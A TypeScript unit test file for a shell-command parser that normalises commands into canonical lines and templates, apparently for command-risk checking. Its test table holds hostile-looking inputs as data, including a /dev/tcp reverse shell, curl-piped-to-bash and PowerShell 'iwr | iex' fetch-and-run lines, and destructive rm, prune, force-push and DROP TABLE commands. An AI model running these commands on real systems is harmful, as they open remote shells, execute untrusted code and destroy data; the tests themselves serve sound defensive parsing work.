import { strict as assert } from 'node:assert';
import { canonicalLines } from '../../../src/shell/canonical';
import { commandTemplate } from '../../../src/shell/template';

const TABLE: readonly (readonly [command: string, ...lines: string[]])[] = [
  ['ls', 'ls'],
  ['/usr/bin/ls -la /tmp', 'ls -a -l /tmp'],
  ['git -C repo push origin main --force', 'git push --force origin main'],
  ['kubectl -n prod delete pod x', 'kubectl delete pod x'],
  ['kubectl delete pod x --namespace=prod', 'kubectl delete pod x'],
  ['docker --context far system prune -af', 'docker system prune -a -f --all --force'],
  ['sudo -u root env A=1 nohup timeout 5 rm -rf x', 'sudo rm -f -r x'],
  ['doas rm x', 'sudo rm x'],
  ['curl -fsSL x | sudo bash -s -- -y', 'curl -L -S -f -s x | sudo bash -s -- -y'],
  ['bash <(curl x)', 'bash <()', 'curl x | bash'],
  [
    'find . -type f -name "*.o" -exec rm -f {} \\;',
    "find . -type f -name '*.o' -exec rm -f {} \\;",
    'rm -f {}',
  ],
  ['ls | xargs -n1 rm -rf', 'ls | xargs -n1 rm', 'rm -f -r'],
  ['a > x 2>&1', 'a > x'],
  ['a 2>/dev/null >&- </dev/null', 'a'],
  [
    'exec 5<>/dev/tcp/h/1; sh <&5 2>&5',
    'exec 5<> /dev/tcp/h/1',
    'sh < /dev/tcp/h/1 2> /dev/tcp/h/1',
  ],
  ['{ a; } > x', ' > x', 'a'],
  ['cat <<E > x\ndata\nE', 'cat > x'],
  ['git checkout -- .', 'git checkout -- .'],
  ['git commit --amend -am "some words"', 'git commit -a -m _ --amend'],
  ['grep -A 3 -rn "a b" src', 'grep -A 3 -n -r _ src'],
  ["mytool 'a|b\nc'", "mytool 'a_b c'"],
  ['java -jar x.jar', 'java -jar x.jar'],
  ['for f in *; do rm "$f"; done', 'rm $f'],
  [
    '(curl x; true) | (cat; sh)',
    'curl x | cat',
    'curl x | sh',
    'true | cat',
    'true | sh',
    'curl x',
    'true',
    'cat',
    'sh',
  ],
  ['ssh -p 22 h "cd x; rm y"', 'ssh -p 22 h', 'cd x', 'rm y'],
  ['psql -c "DROP TABLE x"', "psql -c 'DROP TABLE x'"],
  ['ls; ls', 'ls'],
  ['if ; then', 'if ; then'],
];

describe('canonicalLines', () => {
  for (const [command, ...lines] of TABLE) {
    it(`parses ${JSON.stringify(command)}`, () => {
      assert.deepEqual(
        canonicalLines(command).map((line) => line.text),
        lines,
      );
    });
  }

  it('parses canonical PowerShell to itself', () => {
    for (const command of [
      'ri x -r -fo',
      'iwr x | iex',
      'gci C:\\x | % { ri $_ }',
      'Write-Host "a b"',
    ]) {
      for (const { text } of canonicalLines(command)) {
        assert.equal(canonicalLines(text)[0]?.text, text);
      }
    }
  });

  it('separates the programs of a pipeline', () => {
    const [line] = canonicalLines('sudo git -C x push -f origin main | tee a > b');
    assert.deepEqual(line?.commands, [
      {
        sudo: true,
        program: 'git',
        sub: ['push'],
        flags: ['-f', '--force'],
        args: ['origin', 'main'],
        redirects: [],
      },
      {
        sudo: false,
        program: 'tee',
        sub: [],
        flags: [],
        args: ['a'],
        redirects: [{ op: '>', target: 'b' }],
      },
    ]);
  });
});

describe('commandTemplate', () => {
  it('is equal for commands that differ in numbers, paths and quoted text', () => {
    assert.equal(commandTemplate('head -n 5 /etc/hosts'), commandTemplate('head -n 20 ~/x/y'));
    assert.equal(commandTemplate('psql -c "select 1"'), commandTemplate("psql -c 'drop  x'"));
  });

  it('differs for another flag or program', () => {
    assert.notEqual(commandTemplate('rm -r x'), commandTemplate('rm -f x'));
    assert.notEqual(commandTemplate('cat x'), commandTemplate('tac x'));
  });
});
